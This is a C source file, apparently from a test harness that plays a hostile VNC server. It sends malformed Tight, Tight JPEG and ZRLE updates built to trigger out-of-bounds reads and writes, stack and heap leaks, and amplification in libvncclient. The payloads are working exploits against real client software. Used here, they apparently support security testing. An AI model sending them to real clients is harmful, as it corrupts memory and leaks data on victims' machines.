/* Hostile-server attacks on the compressed encodings: Tight (too many rows, gradient width,
 * the "no zlib" form, fills for amplification), Tight JPEG with a lying marker length, and ZRLE
 * tiles that trip libvncclient's decoder (hostile-servers F1, F5, F7, F8, F9). */
#include "hostile_int.h"

#include <rfb/rfbproto.h>
#include <stdlib.h>
#include <string.h>

enum {
    TIGHT_CTL_BASIC = 0x00,    /* stream 0, copy filter */
    TIGHT_CTL_FILTERED = 0x40, /* stream 0, explicit filter byte follows */
    TIGHT_CTL_FILL = 0x80,
    TIGHT_CTL_JPEG = 0x90,
    TIGHT_FILTER_GRADIENT = 2,
};

/* Compresses data on a new zlib stream (the client's stream is new as well) and sends it as
 * Tight does (compact length, then the bytes) or as ZRLE does (u32 length). */
static bool send_zlib(struct badsrv *srv, const uint8_t *data, size_t n, bool tight)
{
    z_stream zs;
    memset(&zs, 0, sizeof zs);
    if (deflateInit(&zs, Z_DEFAULT_COMPRESSION) != Z_OK)
        return false;
    uint8_t *out = NULL;
    size_t len = 0;
    bool ok = badsrv_deflate(&zs, data, n, &out, &len);
    deflateEnd(&zs);
    if (ok)
        ok = (tight ? badsrv_send_compact_len(srv, (uint32_t)len)
                    : badsrv_send_u32(srv, (uint32_t)len)) &&
             badsrv_send(srv, out, len);
    free(out);
    return ok;
}

bool hostile_atk_amp_fill(struct hostile_run *r, const int32_t *p)
{
    const struct hostile_scenario *sc = hostile_scenario_of(r);
    struct badsrv *srv = hostile_srv(r);
    const uint8_t fill[4] = {TIGHT_CTL_FILL, 0x10, 0x80, 0xF0};
    if (!badsrv_send_update_header(srv, (unsigned)p[0]))
        return false;
    for (int i = 0; i < p[0]; i++)
        if (!badsrv_send_rect_header(srv, 0, 0, sc->w, sc->h, rfbEncodingTight) ||
            !badsrv_send(srv, fill, sizeof fill))
            return false;
    return true;
}

bool hostile_atk_tight_rows(struct hostile_run *r, const int32_t *p)
{
    /* Two rows declared at the bottom of the desktop, p[0] rows of data: each extra row would
     * land below the framebuffer in a library without the check. */
    const struct hostile_scenario *sc = hostile_scenario_of(r);
    struct badsrv *srv = hostile_srv(r);
    size_t row = (size_t)sc->w * 3, n = row * (size_t)p[0];
    uint8_t *data = malloc(n);
    if (!data)
        return false;
    for (size_t i = 0; i < n; i++)
        data[i] = (uint8_t)(i * 7);
    const uint8_t ctl = TIGHT_CTL_BASIC;
    bool ok = hostile_send_one_rect(srv, 0, sc->h - 2, sc->w, 2, rfbEncodingTight, 0) &&
              badsrv_send(srv, &ctl, 1) && send_zlib(srv, data, n, true);
    free(data);
    return ok;
}

bool hostile_atk_tight_gradient(struct hostile_run *r, const int32_t *p)
{
    const struct hostile_scenario *sc = hostile_scenario_of(r);
    struct badsrv *srv = hostile_srv(r);
    int x = p[0], w = p[1], h = p[2];
    size_t n = (size_t)w * 3 * (size_t)h;
    const uint8_t hdr[2] = {TIGHT_CTL_FILTERED, TIGHT_FILTER_GRADIENT};
    if (!hostile_send_one_rect(srv, x, sc->h - h, w, h, rfbEncodingTight, 0) ||
        !badsrv_send(srv, hdr, sizeof hdr))
        return false;
    if (n < 12) /* Tight sends tiny data uncompressed and without a length */
        return hostile_send_zeros(srv, n);
    uint8_t *data = calloc(1, n);
    bool ok = data && send_zlib(srv, data, n, true);
    free(data);
    return ok;
}

bool hostile_atk_tight_ctl(struct hostile_run *r, const int32_t *p)
{
    /* The "no zlib" form: a short declared length that libvncclient's filters read past. */
    struct badsrv *srv = hostile_srv(r);
    const uint8_t body[3] = {(uint8_t)p[0], 0x01, 0x00};
    return hostile_send_one_rect(srv, 0, 0, 16, 8, rfbEncodingTight, 0) &&
           badsrv_send(srv, body, sizeof body) && hostile_send_zeros(srv, 64);
}

bool hostile_atk_tight_jpeg(struct hostile_run *r, const int32_t *p)
{
    /* SOI, then an APP0 marker whose length (p[0]) runs far past the data: the skip in
     * libvncclient's bundled TurboJPEG source then scans heap memory. */
    struct badsrv *srv = hostile_srv(r);
    const uint8_t jpeg[] = {
        0xFF,
        0xD8,
        0xFF,
        0xE0,
        (uint8_t)(p[0] >> 8),
        (uint8_t)p[0],
        'J',
        'F',
        'I',
        'F',
        0,
        1,
        1,
        0,
        0,
        1,
        0,
        1,
        0,
        0,
    };
    const uint8_t ctl = TIGHT_CTL_JPEG;
    return hostile_send_one_rect(srv, 0, 0, 16, 8, rfbEncodingTight, 0) &&
           badsrv_send(srv, &ctl, 1) && badsrv_send_compact_len(srv, sizeof jpeg) &&
           badsrv_send(srv, jpeg, sizeof jpeg);
}

/* Appends n bytes to a ZRLE tile stream being built. */
static void put(uint8_t *buf, size_t *len, const void *p, size_t n)
{
    memcpy(buf + *len, p, n);
    *len += n;
}

bool hostile_atk_zrle(struct hostile_run *r, const int32_t *p)
{
    const struct hostile_scenario *sc = hostile_scenario_of(r);
    struct badsrv *srv = hostile_srv(r);
    uint8_t buf[4096];
    size_t len = 0;
    const uint8_t red[3] = {0, 0, 255}, green[3] = {0, 255, 0}, blue[3] = {255, 0, 0};
    switch (p[0]) {
    case HOSTILE_ZRLE_PALETTE_INDEX: {
        /* A 3-colour packed tile (2 bits per pixel) whose first pixel is index 3: libvncclient
         * paints its stack from there (F1). The desktop is one tile. */
        const uint8_t sub = 3;
        put(buf, &len, &sub, 1);
        put(buf, &len, red, 3);
        put(buf, &len, green, 3);
        put(buf, &len, blue, 3);
        size_t row = ((size_t)sc->w * 2 + 7) / 8;
        for (int y = 0; y < sc->h; y++) {
            memset(buf + len, 0x55, row); /* index 1 */
            if (y == 0)
                buf[len] = 0xC0 | 0x15; /* index 3, then 1s */
            len += row;
        }
        break;
    }
    case HOSTILE_ZRLE_RAW_LONG: {
        /* A plain-RLE tile that uses its data up, then a raw tile with 30 of its bytes (F5:
         * libvncclient's count goes negative and the raw tile reads on into the heap). */
        const uint8_t rle = 128, raw = 0;
        size_t pixels = 64 * (size_t)sc->h, run = pixels - 1;
        put(buf, &len, &rle, 1);
        put(buf, &len, green, 3);
        for (; run >= 255; run -= 255)
            buf[len++] = 255;
        buf[len++] = (uint8_t)run;
        put(buf, &len, &raw, 1);
        memset(buf + len, 0x7F, 30);
        len += 30;
        break;
    }
    case HOSTILE_ZRLE_RESERVED: {
        /* Subencoding 17: reserved; libvncclient takes it for a 17-colour packed palette. */
        const uint8_t sub = 17;
        put(buf, &len, &sub, 1);
        for (int i = 0; i < 17; i++)
            put(buf, &len, i & 1 ? red : blue, 3);
        memset(buf + len, 0xFF, 512);
        len += 512;
        break;
    }
    }
    return hostile_send_one_rect(srv, 0, 0, sc->w, sc->h, rfbEncodingZRLE, 0) &&
           send_zlib(srv, buf, len, false);
}
